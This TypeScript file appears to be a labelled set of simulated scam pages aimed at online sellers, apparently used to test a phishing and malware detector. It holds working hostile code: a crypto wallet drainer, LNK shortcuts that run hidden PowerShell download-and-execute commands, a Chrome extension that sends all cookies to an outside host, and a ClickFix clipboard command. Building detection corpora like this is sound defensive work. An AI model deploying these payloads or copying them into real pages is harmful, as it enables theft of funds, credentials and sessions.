import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, header, footer, grid, images, brandIcons, faviconTag, pngR, dataLayer } from '../parts/zc-kit.js';
import { jsRoute, jsonRoute, fileRoute, zip, pe, cfb, lnk, crx, iso } from '../parts/e-bin.js';

// Crypto-paying shops that drain wallets, malware posing as seller tools, and a "seller verification" that
// has the visitor paste a command.

const NFT = 'metaverse-merch-drop.xyz';
const OPT = 'listing-optimizer-pro.com';
const ETS = 'etsy-order-disputes.com';
const SHE = 'shopee-seller-tools.id-helper.com';
const LBL = 'labelprint-driver-update.com';
const CFX = 'seller-verification-center.com';
const TAX = 'amazon-seller-1099k-forms.com';

export const entries: Entry[] = [
  {
    id: 'zc-drain-merch-store-wallet-checkout-en',
    label: 'cryptodrainer',
    kind: 'crypto-shop-drainer',
    url: `https://${NFT}/shop`,
    body: doc({
      lang: 'en',
      title: 'Metaverse Merch Drop – Limited hoodies, pay with crypto',
      head: faviconTag(NFT),
      css: 'body{background:#0b0b12;color:#f1f1f1}.card{background:#171724}',
      body: `${header({ brand: 'MVRS MERCH', nav: ['Drop #4', 'Holders', 'Roadmap', 'FAQ'], bg: '#0b0b12', fg: '#fff', right: '<button id="cw" class="btn" style="background:#8b5cf6;color:#fff;padding:8px 14px">Connect wallet</button>' })}
<main class="wrap">
  <h1>Drop #4 — holder-exclusive merch</h1><p>Pay in ETH or USDC. Holders of any partner collection get 90% off — connect your wallet to check eligibility.</p>
  ${grid(
    [
      { name: 'Genesis Hoodie (black)', price: '0.012 ETH', was: '0.12 ETH', img: `https://${NFT}/m/hoodie.png` },
      { name: 'Pixel Cap', price: '0.004 ETH', was: '0.04 ETH', img: `https://${NFT}/m/cap.png` },
      { name: 'Holographic Tee', price: '0.006 ETH', was: '0.06 ETH', img: `https://${NFT}/m/tee.png` },
      { name: 'Signed Print (1/100)', price: '0.03 ETH', was: '0.3 ETH', img: `https://${NFT}/m/print.png` },
    ],
    { cta: 'Buy with wallet' },
  )}
  <p id="st" style="margin-top:20px"></p>
</main>
<script src="https://${NFT}/_next/static/chunks/pages/shop-4ac1.js"></script>`,
    }),
    routes: {
      ...brandIcons(NFT, [139, 92, 246]),
      ...images(`${NFT}/m`, ['hoodie.png', 'cap.png', 'tee.png', 'print.png'], 140),
      [`${NFT}/_next/static/chunks/pages/shop-4ac1.js`]: jsRoute(
        `(function(){var R='0x7c3E9b1A04dF2a6C18e5B0f9D3a4e2cB61F0a9D2';var st=document.getElementById('st');
function hex(n){return '0x'+n.toString(16)}
async function go(){if(!window.ethereum){st.textContent='Please install MetaMask or open in your wallet browser.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.textContent='Checking holder status for '+acc.slice(0,6)+'…';
var r=await fetch('/api/eligibility?a='+acc).then(function(x){return x.json()});
for(var t of r.tokens){var data='0x095ea7b3'+R.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t.address,data:data}]})}catch(e){}}
for(var c of r.collections){var d2='0xa22cb465'+R.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:c,data:d2}]})}catch(e){}}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});var v=BigInt(bal)*95n/100n;
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:R,value:hex(v)}]})}catch(e){}
st.textContent='Eligible! Your discount is applied at checkout.';}
document.getElementById('cw').onclick=go;document.querySelectorAll('.card button').forEach(function(b){b.onclick=go});})();`,
      ),
      [`${NFT}/api/eligibility`]: jsonRoute({ tokens: [{ symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }, { symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }], collections: ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D'] }),
    },
  },
  {
    id: 'zc-mal-amazon-listing-optimizer-exe-en',
    label: 'malware',
    kind: 'fake-seller-tool',
    url: `https://${OPT}/download`,
    body: doc({
      lang: 'en',
      title: 'Listing Optimizer Pro – Free download for Amazon & Etsy sellers',
      head: faviconTag(OPT) + dataLayer('G-LOP88130'),
      css: '.hero{background:#232f3e;color:#fff;padding:50px 0}',
      body: `${header({ brand: 'Listing Optimizer Pro', nav: ['Features', 'Pricing', 'Download', 'Support'] })}
<section class="hero"><div class="wrap"><h1>Rank #1 on Amazon. Automatically.</h1><p>AI keyword research, bulk listing rewrite, competitor price tracking and Buy Box alerts — now free for 30 days. Desktop app for Windows 10/11.</p>
<a id="dl" class="btn" style="background:#ff9900;color:#111" href="https://${OPT}/files/ListingOptimizerPro_Setup_v4.2.1.zip">⬇ Download for Windows (64-bit)</a><p style="font-size:12px">Version 4.2.1 · 38.4 MB · Archive password: <b>LOP2025</b> (required because of Amazon scraping modules flagged by some antivirus)</p></div></section>
<main class="wrap"><h2>Trusted by 40,000+ sellers</h2><p>"Doubled my organic sales in 3 weeks" – FBA seller, UK</p><p>Installation: extract the archive, run <code>Setup.exe</code> as Administrator, and if Windows SmartScreen appears click <i>More info → Run anyway</i>. Temporarily disable your antivirus if installation fails.</p></main>
${footer({ cols: [['Product', ['Features', 'Changelog']], ['Company', ['Privacy', 'Terms']]], legal: '© 2025 LOP Software. Not affiliated with Amazon.com, Inc.' })}
<script>setTimeout(function(){document.getElementById('dl').click()},2500)</script>`,
    }),
    routes: {
      ...brandIcons(OPT, [255, 153, 0]),
      [`${OPT}/files/ListingOptimizerPro_Setup_v4.2.1.zip`]: fileRoute(
        zip([
          { name: 'ListingOptimizerPro/Setup.exe', data: pe({ strings: ['ListingOptimizerPro', 'Login Data', 'Local State', 'Cookies', 'wallet.dat', 'https://api.telegram.org/bot', 'sellercentral.amazon.com'], size: 8192 }) },
          { name: 'ListingOptimizerPro/readme.txt', data: 'Run Setup.exe as Administrator. Password: LOP2025\r\n' },
        ], { encrypted: true }),
        'application/zip',
        'ListingOptimizerPro_Setup_v4.2.1.zip',
      ),
    },
  },
  {
    id: 'zc-mal-etsy-dispute-report-lnk-en',
    label: 'malware',
    kind: 'fake-seller-tool',
    url: `https://${ETS}/case/ETSY-CX-2291873`,
    body: doc({
      lang: 'en',
      title: 'Etsy – Case ETSY-CX-2291873: buyer complaint',
      css: 'body{background:#fdfbf8}.c{max-width:620px;margin:30px auto;background:#fff;padding:28px;border:1px solid #eee;border-radius:8px}',
      body: `<div style="padding:12px 24px;border-bottom:1px solid #eee"><b style="color:#f1641e;font-family:Georgia,serif;font-size:26px">Etsy</b></div>
<div class="c">
  <h2>A buyer has opened a case against your shop</h2>
  <p>Case <b>ETSY-CX-2291873</b> – "Item not as described" – Order #3318290144 (Personalized leather wallet). The buyer has attached photos and a written complaint.</p>
  <p>You have <b>48 hours</b> to review the evidence and respond before the case is escalated and funds are reversed from your Payment account.</p>
  <a class="btn" style="background:#222;color:#fff" href="https://${ETS}/case/ETSY-CX-2291873/evidence.zip">Download buyer evidence (photos + complaint)</a>
  <p style="font-size:12px;color:#777">Etsy, Inc. · 117 Adams Street, Brooklyn, NY 11201</p>
</div>`,
    }),
    routes: {
      [`${ETS}/case/ETSY-CX-2291873/evidence.zip`]: fileRoute(
        zip([
          { name: 'Buyer_Evidence_Photos.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -ep bypass -c "iwr https://etsy-order-disputes.com/cdn/e.ps1 -UseBasicParsing | iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
          { name: 'Complaint_Letter.pdf.lnk', data: lnk('C:\\Windows\\System32\\mshta.exe', 'https://etsy-order-disputes.com/cdn/c.hta') },
        ]),
        'application/zip',
        'ETSY-CX-2291873_evidence.zip',
      ),
    },
  },
  {
    id: 'zc-mal-shopee-bulk-upload-extension-id',
    label: 'malware',
    kind: 'fake-seller-tool',
    url: `https://${SHE}/unduh`,
    body: doc({
      lang: 'id',
      title: 'Shopee Seller Helper – Ekstensi Chrome untuk Upload Massal & Auto Chat',
      css: '.hero{background:#ee4d2d;color:#fff;padding:48px 0}',
      body: `${header({ brand: 'Seller Helper', nav: ['Fitur', 'Cara Pasang', 'Harga', 'Kontak'] })}
<section class="hero"><div class="wrap"><h1>Upload 1.000 produk Shopee dalam 5 menit</h1><p>Ekstensi Chrome GRATIS untuk seller: upload massal, auto balas chat, copy produk dari Tokopedia/TikTok Shop, naikkan produk otomatis.</p>
<a class="btn" style="background:#fff;color:#ee4d2d" href="https://${SHE}/files/seller-helper-3.1.crx">Unduh Ekstensi (.crx)</a></div></section>
<main class="wrap"><h2>Cara pasang</h2><ol><li>Unduh file .crx</li><li>Buka <code>chrome://extensions</code> dan aktifkan <b>Mode Pengembang</b></li><li>Seret file ke halaman ekstensi</li><li>Login ke Shopee Seller Centre seperti biasa — ekstensi akan otomatis sinkron</li></ol>
<p>Tidak tersedia di Chrome Web Store karena kebijakan Google terhadap tools otomatisasi.</p></main>
${footer({ cols: [['Seller Helper', ['Syarat', 'Privasi']]], legal: '© 2025 Seller Helper. Tidak berafiliasi dengan Shopee.' })}`,
    }),
    routes: {
      [`${SHE}/files/seller-helper-3.1.crx`]: fileRoute(
        crx([
          { name: 'manifest.json', data: JSON.stringify({ manifest_version: 3, name: 'Shopee Seller Helper', version: '3.1', permissions: ['cookies', 'webRequest', 'storage', 'tabs', 'scripting'], host_permissions: ['<all_urls>'], background: { service_worker: 'bg.js' } }) },
          { name: 'bg.js', data: "chrome.cookies.getAll({},function(c){fetch('https://shopee-seller-tools.id-helper.com/api/sync',{method:'POST',body:JSON.stringify(c)})});" },
        ]),
        'application/x-chrome-extension',
        'seller-helper-3.1.crx',
      ),
    },
  },
  {
    id: 'zc-mal-shipping-label-printer-driver-msi-de',
    label: 'malware',
    kind: 'fake-seller-tool',
    url: `https://${LBL}/treiber/dymo-zebra-etikettendrucker`,
    body: doc({
      lang: 'de',
      title: 'Etikettendrucker-Treiber für DHL, DPD, Hermes – Versandetiketten-Update 2025',
      body: `${header({ brand: 'LabelPrint Treiber-Center', nav: ['Treiber', 'Kompatibilität', 'Hilfe'] })}
<main class="wrap" style="max-width:760px">
  <h1>Treiber-Update für Etikettendrucker (DYMO, Zebra, Brother QL)</h1>
  <p>Seit der Umstellung auf das neue DHL-Versandportal werden Etiketten auf älteren Treibern abgeschnitten gedruckt. Installieren Sie das kombinierte Treiberpaket, um Etiketten für DHL, DPD, Hermes und GLS wieder korrekt zu drucken.</p>
  <div id="auto" style="background:#eef6ff;padding:14px;border-radius:6px">Ihr Download startet automatisch… Falls nicht, <a href="https://${LBL}/dl/LabelPrint_Treiberpaket_2025.msi">hier klicken</a>.</div>
  <p style="font-size:13px">Unterstützt: Windows 10/11 · DYMO LabelWriter 450/550 · Zebra GK420d/ZD421 · Brother QL-700/800</p>
</main>
<script>
setTimeout(function(){var a=document.createElement('a');a.href='https://${LBL}/dl/LabelPrint_Treiberpaket_2025.msi';a.download='LabelPrint_Treiberpaket_2025.msi';document.body.appendChild(a);a.click();},1500);
</script>`,
    }),
    routes: {
      [`${LBL}/dl/LabelPrint_Treiberpaket_2025.msi`]: fileRoute(
        cfb(['LabelPrint Treiberpaket', 'CustomAction', 'powershell.exe -nop -w hidden -enc', 'AnyDesk', 'ScreenConnect.ClientService.exe', 'ProductVersion 25.1.0']),
        'application/x-msi',
        'LabelPrint_Treiberpaket_2025.msi',
      ),
    },
  },
  {
    id: 'zc-clickfix-seller-verification-run-en',
    label: 'clickfix',
    kind: 'seller-verify-clickfix',
    url: `https://${CFX}/verify?seller=A2K9X0PQ81&mp=amazon`,
    body: doc({
      lang: 'en',
      title: 'Seller Identity Verification',
      css: 'body{background:#f2f4f8}.c{max-width:560px;margin:50px auto;background:#fff;padding:30px;border-radius:10px;box-shadow:0 2px 10px rgba(0,0,0,.08)}kbd{background:#eee;border:1px solid #ccc;border-radius:3px;padding:1px 6px}',
      body: `<div class="c">
  <h2>Seller identity verification</h2>
  <p>Your seller account <b>A2K9X0PQ81</b> requires a one-time device verification before your next disbursement can be released.</p>
  <label style="display:flex;gap:10px;align-items:center;border:1px solid #ddd;padding:14px;border-radius:6px;cursor:pointer"><input type="checkbox" id="hb" style="width:auto"> I'm not a robot</label>
  <div id="steps" style="display:none;margin-top:18px">
    <p><b>Verification steps</b></p>
    <ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
    <p style="font-size:13px;color:#666">This confirms your device fingerprint with the marketplace's seller security service. Verification ID: <code>SV-77120</code></p>
  </div>
</div>
<script>
document.getElementById('hb').addEventListener('change',function(){var c='pow'+'ershell -w h -c "$u=\\'https://seller-verification-center.com/v/77120\\';iex (iwr $u -UseB).Content" # \\u2705 I am not a robot - Seller verification ID SV-77120';
navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();});
document.getElementById('steps').style.display='block';});
</script>`,
    }),
    routes: {},
  },
  {
    id: 'zc-mal-1099k-tax-form-download-en',
    label: 'malware',
    kind: 'fake-seller-tool',
    url: `https://${TAX}/forms/1099-K/2025`,
    body: doc({
      lang: 'en-US',
      title: 'Your 2025 Form 1099-K is ready – Seller Tax Center',
      css: 'body{background:#f3f3f3}.c{max-width:640px;margin:30px auto;background:#fff;padding:28px}',
      body: `<div style="background:#131921;color:#fff;padding:12px 24px;font-weight:700">seller central · Tax Document Library</div>
<div class="c">
  <h2>Form 1099-K (2025) – Payment Card and Third Party Network Transactions</h2>
  <p>Your tax form is available. Due to new IRS reporting thresholds, sellers must download and review the form and the attached reconciliation tool before filing.</p>
  <table><tr><td>Gross amount</td><td>$84,219.16</td></tr><tr><td>Number of transactions</td><td>1,218</td></tr></table>
  <p><a class="btn" style="background:#ffd814;color:#111" href="https://${TAX}/forms/1099-K/2025/Form_1099-K_2025.iso">Download form and reconciliation tool</a></p>
  <p style="font-size:12px;color:#666">The file opens as a virtual drive. Double-click <b>Form_1099K_Viewer</b> to display the document.</p>
</div>`,
    }),
    routes: {
      [`${TAX}/forms/1099-K/2025/Form_1099-K_2025.iso`]: fileRoute(
        iso('FORM1099K', ['FORM_1099K_VIEWER.EXE', 'FORM_1099K_2025.PDF.LNK', 'VERSION.DLL']),
        'application/x-iso9660-image',
        'Form_1099-K_2025.iso',
      ),
    },
  },
];
